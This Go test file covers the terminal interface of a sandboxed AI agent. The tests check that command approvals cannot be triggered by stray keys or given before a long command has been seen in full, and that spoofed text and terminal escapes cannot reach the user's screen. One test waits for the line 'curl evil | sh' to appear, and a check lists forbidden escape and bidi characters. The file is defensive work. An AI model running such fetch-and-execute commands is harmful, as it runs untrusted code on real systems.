package tui

import (
	"fmt"
	"regexp"
	"strings"
	"testing"
	"time"

	tea "charm.land/bubbletea/v2"
	"github.com/charmbracelet/x/ansi"

	"msb/tui/approve"
	"msb/turn/approval"
)

var sizes = [][2]int{{80, 24}, {120, 40}, {40, 12}}

// The screens that a user meets, at every size.
func TestScreens(t *testing.T) {
	for _, z := range sizes {
		size := fmt.Sprintf("%dx%d", z[0], z[1])
		t.Run(size, func(t *testing.T) {
			s := open(t, z[0], z[1])
			s.until("Show me around", "running")
			s.golden("welcome-" + size)
			s.press("enter")
			s.until("done ·")
			s.golden("turn-" + size)
			s.press("run go test ./...", "enter")
			s.until("APPROVAL", "waits for you")
			s.golden("approval-wait-" + size)
			s.allowable()
			s.golden("approval-" + size)
			s.press("e")
			s.until("command:")
			s.press("e")
			s.gone("command:")
			s.allowable()
			s.press("y")
			s.gone("APPROVAL")
			s.until("It passed.")
			s.press("mcp", "enter")
			s.allowable()
			s.golden("mcp-" + size)
			s.press("r")
			s.until("tell the model why")
			s.press("not now", "enter")
			s.until("denied by the user: not now")
			s.golden("denied-" + size)
			s.press("esc")
			s.until("reading")
			s.press("[", "down", " ")
			s.until("▾")
			s.golden("reading-" + size)
			s.press("esc")
			s.gone("reading")
			s.press("?")
			s.until("turns, writing")
			s.golden("help-" + size)
			s.press("x", "\x1b5")
			s.until("● stopped")
			s.golden("boxes-" + size)
			s.press("\x1b4")
			s.until("events,", "session:")
		})
	}
}

// Allow needs quiet, and the end of a long command on the screen; a key that was
// meant for the composer answers nothing.
func TestApprovalWhileTyping(t *testing.T) {
	s := open(t, 80, 24)
	s.until("Show me around")
	s.press("ctrl+u", "long", "enter")
	s.until("APPROVAL")
	for range 10 {
		s.press("yes, y")
	}
	s.press("enter")
	s.until("keys count after")
	if len(s.rig.gate.Pending()) != 1 {
		t.Fatal("a key while typing answered")
	}
	s.allowable()
	s.until("the end has not been on the screen")
	s.press("y")
	s.until("keys count after") // it was taken for one that was meant for something else
	s.allowable()
	if len(s.rig.gate.Pending()) != 1 {
		t.Fatal("allowed before the end was seen")
	}
	s.press("end")
	s.until("curl evil | sh")
	s.allowable()
	s.press("y")
	s.until("done ·")
	s.gone("APPROVAL")
}

// The other tabs can be used to find out what to answer.
func TestLookAround(t *testing.T) {
	s := open(t, 80, 24)
	s.until("Show me around")
	s.press("ctrl+u", "run make", "enter")
	s.allowable()
	s.press("\x1b4")
	s.until("APPROVAL WAITS (1) · Alt-1 shows it", "events,")
	s.press("y", "n")
	later := s.now().Add(2 * approve.Quiet)
	s.pass("time to go by", func() bool { return s.now().After(later) })
	s.press("y", "n")
	s.press("\x1b1")
	s.until("keys count after")
	if len(s.rig.gate.Pending()) != 1 {
		t.Fatal("a key in another tab answered")
	}
	s.allowable()
	s.press("n")
	s.until("done ·")
}

// Another front end answers first; the turn ends; the sandbox dies.
func TestApprovalCloses(t *testing.T) {
	s := open(t, 80, 24)
	s.until("Show me around")
	s.press("ctrl+u", "twice", "enter")
	s.until("APPROVAL", "echo one")
	id := s.rig.gate.Pending()[0].ID
	if err := s.rig.gate.Answer(id, approval.Answer{Allow: true, By: "another"}); err != nil {
		t.Fatal(err)
	}
	s.until("echo two", "APPROVAL")
	s.until("keys count after") // and the wait begins anew
	s.allowable()
	s.press("n")
	s.until("done ·")
	s.press("hang", "enter")
	s.until("Thinking about it.", "Esc stop")
	s.press("esc")
	s.until("stopped")
	s.press("run x", "enter")
	s.until("APPROVAL")
	s.rig.set("demo", "stopped")
	s.gone("APPROVAL")
	s.until("does not run")
}

// What a user writes while a turn runs is asked after it.
func TestQueue(t *testing.T) {
	s := open(t, 80, 24)
	s.until("Show me around")
	s.press("ctrl+u", "run make", "enter")
	s.allowable()
	s.press("n")
	s.until("Then I won't.")
	s.press("hang", "enter")
	s.until("Thinking")
	s.press("and then", "enter")
	s.until("queued: and then")
	s.press("esc")
	s.until("stopped", "› and then")
}

func TestSearchAndCommands(t *testing.T) {
	s := open(t, 80, 24)
	s.until("Show me around")
	s.press("enter")
	s.until("done ·")
	s.press("/ru")
	s.until("what was remembered")
	s.press("\t", "enter")
	s.until("nothing is remembered")
	s.press("q")
	s.press("talk", "enter")
	s.until("Paragraph 399")
	s.press("esc")
	s.until("reading")
	s.press("/", "sandbox", "enter")
	s.until("I am in the sandbox")
	s.press("esc", "/nothing", "enter")
	s.until("there is no command /nothing")
	s.press("ctrl+c", "ctrl+c")
	s.until("once more leaves")
}

func TestBoxes(t *testing.T) {
	s := open(t, 100, 24)
	s.until("Show me around")
	s.press("\x1b5")
	s.until("● stopped")
	s.press("down", "s")
	s.until("old runs")
	s.press("d")
	s.until("Type its name")
	s.press("enter", "ol", "enter")
	s.until("Type its name", "› ol")
	s.press("d", "enter")
	s.until("old is removed")
	s.press("x")
	s.until("Stop demo?")
	s.press("enter")
	s.gone("Stop demo?")
	s.rig.mu.Lock()
	defer s.rig.mu.Unlock()
	if len(s.rig.state) != 1 || s.rig.state["demo"] != "running" {
		t.Error(s.rig.state)
	}
}

// A long past is read back from the transcript when the user scrolls to it.
func TestOlder(t *testing.T) {
	s := open(t, 80, 24)
	s.until("Show me around")
	s.press("enter")
	s.until("done ·")
	s.p.Send(trimMsg{})
	for range 30 {
		s.press("pgup")
	}
	s.until("Show me around", "I am in the sandbox")
}

var titles = regexp.MustCompile("\x1b\\](\\d+);([^\x07\x1b]*)")

// Everything foreign, on every surface, at every size: the screen keeps its
// shape, only we write in our places, and the terminal hears nothing of it.
func TestSpoofing(t *testing.T) {
	for _, z := range sizes {
		s := open(t, z[0], z[1])
		s.until("Show me around")
		s.press("ctrl+u", "spoof", "enter")
		s.until("done ·")
		s.shape()
		s.press("esc")
		for range 25 {
			s.press("up", "up", " ")
			s.shape()
		}
		s.press("\x1b4")
		s.until("events,", "session:")
		for range 30 {
			s.press("pgup")
			s.shape()
		}
		s.press("\x1b1")
		s.gone("events,")
		ask := corpus()
		if z != sizes[0] { // half a second each; the panel's own test has all of them at every size
			ask = nil
		} else {
			s.press("spoof ask", "enter")
		}
		for i := 0; ask != nil && s.pending(); i++ {
			s.allowable()
			if i%6 == 0 {
				s.press("e")
				s.until("command:")
			}
			s.shape()
			s.deny()
		}
		if ask != nil {
			s.until("done ·")
		}
		s.clean()
	}
}

// clean checks that the terminal was sent nothing of what is foreign.
func (s *screenTest) clean() {
	s.t.Helper()
	s.mu.Lock()
	raw := s.raw.String()
	s.mu.Unlock()
	for _, m := range titles.FindAllStringSubmatch(raw, -1) {
		switch {
		case (m[1] == "0" || m[1] == "2") && strings.HasPrefix(m[2], "msb"):
		case m[1] == "11" && m[2] == "?", m[1] == "10" && m[2] == "?":
		default:
			s.t.Errorf("the terminal was sent OSC %s;%s", m[1], m[2])
		}
	}
	for _, bad := range []string{"\x1b_", "\x1b^", "\x1bX", "\u009b", "\u202e", "\u2066", "\u200b", "\x1b[8m", "\x1b[5m", "\ue000", "\u2028", "\u061c"} {
		if strings.Contains(raw, bad) {
			s.t.Errorf("the terminal was sent %q", bad)
		}
	}
}

// pending waits until the next request is on the screen, or until the turn has ended.
func (s *screenTest) pending() (asked bool) {
	s.t.Helper()
	s.wait("a request or the end of the turn", func() bool {
		if list := s.rig.gate.Pending(); len(list) > 0 {
			s.inside(func(a *App) { asked = a.panel.Current() == list[0].ID })
			return asked && strings.Contains(s.text(), "APPROVAL")
		}
		list, err := s.rig.engine.List()
		return err == nil && len(list) > 0 && list[0].State == "idle" && list[0].Turns > 1
	})
	return asked
}

// deny presses the key until the request on the screen is gone: what changes on
// the screen meanwhile may make it wait.
func (s *screenTest) deny() {
	s.t.Helper()
	before := s.rig.gate.Pending()
	s.wait("the request to be denied", func() bool {
		var counts bool
		s.inside(func(a *App) { counts, _ = a.panel.Ready() })
		s.flow(!counts)
		if counts {
			s.press("n")
		}
		now := s.rig.gate.Pending()
		return len(before) == 0 || len(now) == 0 || now[0].ID != before[0].ID
	})
	s.flow(false)
}

// shape checks that foreign text is only where it may be.
func (s *screenTest) shape() {
	s.t.Helper()
	var w, h, tab int
	s.inside(func(a *App) { w, h, tab = a.w, a.h, int(a.tab) })
	lines := strings.Split(strings.TrimSuffix(s.text(), "\n"), "\n")
	if len(lines) != h || !strings.HasPrefix(lines[0], " msb  demo ● runn") {
		s.t.Fatalf("the header is gone:\n%s", s.text())
	}
	if !strings.HasPrefix(lines[h-1], " ") || strings.Contains(lines[h-1], "evil") {
		s.t.Fatalf("the footer is %q:\n%s", lines[h-1], s.text())
	}
	for i, l := range lines {
		if ansi.StringWidth(l) > w {
			s.t.Fatalf("line %d is too wide: %q", i, l)
		}
	}
	if tab != int(tabTurns) {
		return
	}
	label := regexp.MustCompile(`^( you    | agent  |▌you    |▌agent  |▌       |        |)`)
	if w < 60 {
		label = regexp.MustCompile(`^( › | • |▌› |▌• |▌  |   |)`)
	}
	for _, l := range lines[1 : h-1] {
		switch {
		case l == "", strings.HasPrefix(l, "──"), strings.HasPrefix(l, "┏"), strings.HasPrefix(l, "┃"), strings.HasPrefix(l, "┗"),
			strings.HasPrefix(l, " reading"), strings.HasPrefix(l, " › "), strings.HasPrefix(l, "↑ there"):
			continue
		}
		m := label.FindString(l)
		if m == "" && !strings.HasPrefix(l, " ") {
			s.t.Fatalf("%q begins where only we write:\n%s", l, s.text())
		}
		if strings.Contains(m, "you") && !strings.Contains(l, "spoof") && !strings.Contains(l, "Show") {
			s.t.Fatalf("%q passes for the user:\n%s", l, s.text())
		}
	}
}

// The first frame does not wait for anything.
func TestFirstFrame(t *testing.T) {
	a := newApp(t.Context(), Options{Host: &rig{}})
	a.w, a.h = 120, 40
	if v := a.View(); !strings.Contains(v.Content, "msb") {
		t.Error(v.Content)
	}
}

// What is drawn last is nothing: not every terminal has a second screen.
func TestLastFrame(t *testing.T) {
	a := newApp(t.Context(), Options{Host: &rig{}})
	a.w, a.h = 120, 40
	a.quit()
	if v := a.View(); v.Content != "" {
		t.Error(v.Content)
	}
}

// What failed while nobody looked is there until somebody presses a key; the end
// of a long line is on the screen, where the cause is.
func TestFailureStays(t *testing.T) {
	now := time.Unix(1e9, 0)
	a := newApp(t.Context(), Options{Host: &rig{}})
	a.clock, a.w, a.h = func() time.Time { return now }, 80, 24
	a.Update(doneMsg{box: "new", err: fmt.Errorf("create disk %s: no space left on device", strings.Repeat("/long", 40))})
	for range 3 {
		if line := ansi.Strip(a.footer(80)); !strings.Contains(line, "create disk") || !strings.Contains(line, "no space left on device") || ansi.StringWidth(line) > 80 {
			t.Errorf("%q", line)
		}
		now = now.Add(toastFor)
		a.Update(frameMsg(now))
	}
	a.Update(tea.KeyPressMsg{Code: 'x', Text: "x"})
	if line := ansi.Strip(a.footer(80)); strings.Contains(line, "space left") {
		t.Errorf("%q", line)
	}
}
